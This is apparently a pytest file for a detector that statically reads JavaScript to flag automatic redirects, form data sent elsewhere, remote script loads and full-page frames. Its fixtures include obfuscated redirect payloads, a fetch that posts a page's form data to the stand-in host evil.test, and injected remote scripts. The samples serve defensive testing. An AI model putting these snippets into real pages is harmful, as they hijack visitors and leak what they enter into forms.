"""Addresses that scripts go to by themselves, read and never run."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aidroute.domain.script_redirects import read_script

GOES = [
    "document.defaultView.location='http://evil.test/a'",
    "navigation.navigate('http://evil.test/a')",
    "Object.assign(location, {href: 'http://evil.test/a'})",
    "Reflect.set(location, 'href', 'http://evil.test/a')",
    "location.href = new URL('http://evil.test/a')",
    "$(location).attr('href', 'http://evil.test/a')",
    "location='a/tset.live//:ptth'.split('').reverse().join('')",
    "location.href='http://evil.test/a'",
    'window.location = "http://evil.test/a";',
    "document.location='http://evil.test/a'",
    "top.location.href = `http://evil.test/a`",
    "self.location.replace('http://evil.test/a')",
    "window.location.assign( 'http://evil.test/a' )",
    "window . location . href = 'http://evil.test/a'",
    "window['location'] = 'http://evil.test/a'",
    "window['location'].href = 'http://evil.test/a'",
    "location/**/.href/**/=/**/'http://evil.test/a'",
    "var l = window.location; l.href = 'http://evil.test/a'",
    "const l = document.location; l.replace('http://evil.test/a')",
    'window["location"]["href"] = "http://evil.test/a"',
    "document['loca\\x74ion']['replace']('http://evil.test/a')",
    "top['loca' + 'tion'] = 'http://evil.test/a'",
    "window.navigate('http://evil.test/a')",
    "window.open('http://evil.test/a', '_self')",
    "location.href='\\x68ttp://evil.test/a'",
    "location.href='http:\\/\\/evil.test\\/a'",
    "location.href='\\u0068ttp://evil.test/a'",
    "location.href='ht' + 'tp://' + 'evil.test/a'",
    "var u = 'http://evil.test/a'; location = u;",
    "const h = 'evil.test', u = 'http://' + h + '/a'; location = u",
    "location = atob('aHR0cDovL2V2aWwudGVzdC9h')",
    "location = unescape('http%3A//evil.test/a')",
    "location = decodeURIComponent('http%3A%2F%2Fevil.test%2Fa')",
    "location = String.fromCharCode(104,116,116,112,58,47,47,101,118,105,108,46,116,101,115,116,47,97)",
    "location = ('http://evil.test/a')",
    "setTimeout(function () { location.href = 'http://evil.test/a' }, 100)",
    "setTimeout(() => { location.href = 'http://evil.test/a' }, 100)",
    "setTimeout(\"location.href='http://evil.test/a'\", 100)",
    "setTimeout(go, 5); function go() { location.href = 'http://evil.test/a' }",
    "function go() { location.href = 'http://evil.test/a' } go();",
    "const go = () => { location.href = 'http://evil.test/a' }; go()",
    "var go = function () { location.href = 'http://evil.test/a' }; go()",
    "window.onload = function () { location.href = 'http://evil.test/a' }",
    "window.onload = go; function go() { location.href = 'http://evil.test/a' }",
    "document.addEventListener('DOMContentLoaded', function () { location.href = 'http://evil.test/a' })",
    "window.addEventListener('load', () => { location.href = 'http://evil.test/a' })",
    "$(document).ready(function () { location.href = 'http://evil.test/a' })",
    "$(function () { location.href = 'http://evil.test/a' })",
    "(function () { location.href = 'http://evil.test/a' })()",
    "!function () { location.href = 'http://evil.test/a' }()",
    "(() => { location.href = 'http://evil.test/a' })()",
    "(async () => { location.href = 'http://evil.test/a' })()",
    "{ location.href = 'http://evil.test/a' }",
    "a(); location.href = 'http://evil.test/a' // 'quoted",
    "/* a comment */ location.href = 'http://evil.test/a'",
]


@pytest.mark.parametrize("script", GOES)
def test_a_script_that_goes_somewhere_on_load_is_found(script: str) -> None:
    found = read_script(script).targets
    assert [(target.address, target.is_certain) for target in found] == [("http://evil.test/a", True)]


ASKS = [
    "if (document.referrer) { location.href = 'http://evil.test/a' }",
    "if (/bot/.test(navigator.userAgent)) location.href = 'http://evil.test/a'",
    "if (a) { b() } else { location = 'http://evil.test/a' }",
    "a && (location = 'http://evil.test/a')",
    "setTimeout(function () { if (x) { location.href = 'http://evil.test/a' } }, 9)",
]


@pytest.mark.parametrize("script", ASKS)
def test_a_script_that_asks_first_is_less_certain(script: str) -> None:
    found = read_script(script).targets
    assert [target.is_certain for target in found] in ([False], [])
    assert not any(target.is_certain for target in found)


STAYS = [
    "function go() { location.href = 'http://evil.test/a' }",
    "x.onclick = function () { location.href = 'http://evil.test/a' }",
    "x.addEventListener('click', function () { location.href = 'http://evil.test/a' })",
    "x.addEventListener('submit', () => { location.href = 'http://evil.test/a' })",
    "$('#b').on('click', function () { location.href = 'http://evil.test/a' })",
    "var app = { go: function () { location.href = 'http://evil.test/a' } }",
    "// location.href = 'http://evil.test/a'",
    "/* location.href = 'http://evil.test/a' */",
    "var text = \"location.href = 'http://evil.test/a'\"",
    "var url = 'http://evil.test/a?u=' + location.href",
    "if (location.href == 'http://evil.test/a') x()",
    "element.href = 'http://evil.test/a'",
    "location.hash = '#top'",
    "location.href = '#top'",
    "location.reload()",
    "if (top !== self) top.location = self.location",
    "location.href = base + path",
    "window.open('http://evil.test/a')",
    "var location = 'http://evil.test/a'",
]


@pytest.mark.parametrize("script", STAYS)
def test_a_script_that_goes_nowhere_by_itself_is_not_accused(script: str) -> None:
    assert read_script(script).targets == []


def test_a_known_beginning_is_enough_to_know_the_host() -> None:
    found = read_script("location.href = 'http://evil.test/?r=' + encodeURIComponent(document.referrer)").targets
    assert found[0].address == "http://evil.test/?r="


def test_markup_that_a_script_writes_is_handed_back() -> None:
    assert read_script("document.write('<iframe src=' + '//evil.test' + '>')").markup == ["<iframe src=//evil.test>"]


PARTS = (
    *("location=", "'http://a.test'", "(", ")", "{", "}", "function", "=>", "atob(", "+", "'", '"', "`", "\\", "/*"),
    *("*/", "//", "\n", ";", "setTimeout(", "if", "else", "${", "String.fromCharCode(", "99999999", "x", ".", "0x1G"),
)


@given(st.lists(st.sampled_from(PARTS), max_size=60).map("".join) | st.text(max_size=120))
@settings(max_examples=200)
def test_no_script_is_an_error(script: str) -> None:
    assert len(read_script(script).targets) < 30


def test_a_form_that_a_script_sends_elsewhere_is_found() -> None:
    found = read_script("fetch('https://evil.test/c', {method: 'POST', body: new FormData(document.forms[0])})")
    assert found.actions == ["https://evil.test/c"]


def test_counting_visits_sends_no_form() -> None:
    assert read_script("fetch('https://stats.test/v', {method: 'POST', body: '1'})").actions == []
    assert read_script("fetch('https://news.test/v').then(r => show(r, '.card'))").actions == []


def test_a_click_by_script_is_found_and_one_by_a_person_is_not() -> None:
    assert read_script("document.getElementById('z').click()").clicks == ["z"]
    assert read_script("function go() { document.getElementById('z').click() }").clicks == []


def test_a_literal_that_a_method_changes_is_not_taken_as_it_stands() -> None:
    assert read_script("location = '/a'.concat(secret)").targets == []


@pytest.mark.parametrize(
    "source",
    [
        "var c = {u: 'http://evil.test/a'}; location.href = c.u",
        "var c = ['http://evil.test/a']; location.href = c[0]",
        "var h = 'evil.test'; location.href = `http://${h}/a`",
        "location.href = 'http://'.concat('evil.test/a')",
        "window?.location?.replace?.('http://evil.test/a')",
        "location.assign.call(location, 'http://evil.test/a')",
        "var a = document.createElement('a'); a.href = 'http://evil.test/a'; a.click()",
        "var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://evil.test/a'",
    ],
)
def test_an_address_that_is_put_together_or_stands_beside_is_found(source: str) -> None:
    assert [target.address for target in read_script(source).targets] == ["http://evil.test/a"]


@pytest.mark.parametrize(
    "source",
    [
        "var share = 'http://social.test/'; location.href = location.href + '#give'",
        "var share = 'http://social.test/'; function go(u) { location.href = u }",
        "var share = 'http://social.test/'; if (x) { location.href = y }",
        "var f = document.createElement('iframe'); f.src = 'http://chat.test/'; document.body.append(f)",
    ],
)
def test_an_address_that_stands_beside_other_code_is_none_of_its_targets(source: str) -> None:
    found = read_script(source)
    assert "http://social.test/" not in [target.address for target in found.targets]
    assert found.markup == []


def test_a_frame_that_a_script_spreads_over_the_page_is_read_as_markup() -> None:
    source = "var f = document.createElement('iframe'); f.src = 'http://evil.test/'; f.style = 'position:fixed;inset:0'"
    assert read_script(source).markup == ['<iframe src="http://evil.test/"></iframe>']


@pytest.mark.parametrize(
    "source",
    [
        "import 'https://evil.test/a.mjs'",
        "import { pay } from 'https://evil.test/a.mjs'",
        "import('https://evil.test/a.mjs')",
        "var s = document.createElement('script'); s.src = 'https://evil.test/a.mjs'",
    ],
)
def test_a_script_that_fetches_another_one_names_it(source: str) -> None:
    assert read_script(source).loads == ["https://evil.test/a.mjs"]


def test_a_picture_is_no_script() -> None:
    source = "var i = document.createElement('img'); i.src = 'https://stats.test/p'; f('script')"
    assert read_script(source).loads == []
